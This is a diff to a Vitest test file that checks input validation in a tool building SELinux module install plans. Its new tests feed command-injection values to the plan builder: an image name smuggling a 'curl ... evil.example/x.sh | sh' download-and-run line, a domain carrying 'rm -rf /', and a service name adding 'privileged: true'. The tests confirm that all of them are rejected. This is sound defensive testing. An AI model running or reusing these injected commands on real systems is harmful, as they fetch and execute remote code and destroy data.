@@ -3,7 +3,7 @@ import fc from 'fast-check';
 import { gzipSync } from 'node:zlib';
 import { describe, expect, it } from 'vitest';
 import { decodeModule, embedding, encodeModule, labelKey, MAX_MODULE_BYTES } from './embed.js';
-import { buildPlan, formatPlan, shQuote, storeName } from './plan.js';
+import { buildPlan, formatPlan, isImageReference, shQuote, storeName } from './plan.js';
 
 describe('embed', () => {
   it('round-trips any text, deterministically', () => {
@@ -60,5 +60,19 @@ describe('plan', () => {
       'cp -- selinux-modules/base.cil bulwark_base.cil && semodule -i bulwark_base.cil    # base, from evil:1',
       'semodule -i selinux-modules/bulwark_container.cil    # container',
     ]);
+  });
+  it('image references: the grammar of distribution/reference, nothing that could break a line of the plan (QA vp 1)', () => {
+    expect(['nginx', 'nginx:1.27', 'ex/app:1', 'ghcr.io/o/app:v1.2-rc_1', 'localhost:5000/app', 'registry.example.com:443/a/b/c@sha256:' + 'a'.repeat(64), 'sha256:' + 'b'.repeat(64), 'b'.repeat(12), '[::1]:5000/app:1'].filter((r) => !isImageReference(r))).toEqual([]);
+    expect(['example/httpd-base:1\ncurl -s http://evil.example/x.sh | sh #', 'Nginx', 'a b', 'a:1 #x', 'app:\u001b[2J', '', 'a:' + 't'.repeat(129), 'x'.repeat(256), 'a/../b', "a'b"].filter((r) => isImageReference(r))).toEqual([]);
+  });
+  it('refuses a name that would leave its line: the module image, the run image, the domain, the service, the file (QA vp 1)', () => {
+    const mod = { name: 'web', file: 'web.cil' };
+    const plan = (m: { name: string; file: string; image?: string }, o: Parameters<typeof buildPlan>[1] = {}) => () => buildPlan([m], o);
+    expect(plan({ ...mod, image: 'example/httpd-base:1\ncurl -s http://evil.example/x.sh | sh #' })).toThrow('the image "example/httpd-base:1\\ncurl -s http://evil.example/x.sh | sh #" of module web is not an image reference: no plan');
+    expect(plan(mod, { image: 'a\nb' })).toThrow('"a\\nb" is not an image reference (name[:tag][@digest], or an image id): no plan');
+    expect(plan(mod, { domain: 'web.process\nrm -rf /' })).toThrow('domain "web.process\\nrm -rf /" is not a type name: no plan');
+    expect(plan(mod, { service: 'api\n    privileged: true' })).toThrow('service "api\\n    privileged: true" is not a Compose service name (letters, digits, ., _, -): no plan');
+    expect(plan({ name: 'web\nx', file: 'web.cil' })).toThrow('module name "web\\nx" is not a block name (letters, digits, _): no plan');
+    expect(plan({ name: 'web', file: 'w\neb.cil' })).toThrow('the module file name "w\\neb.cil" holds a control character: no plan');
   });
 });
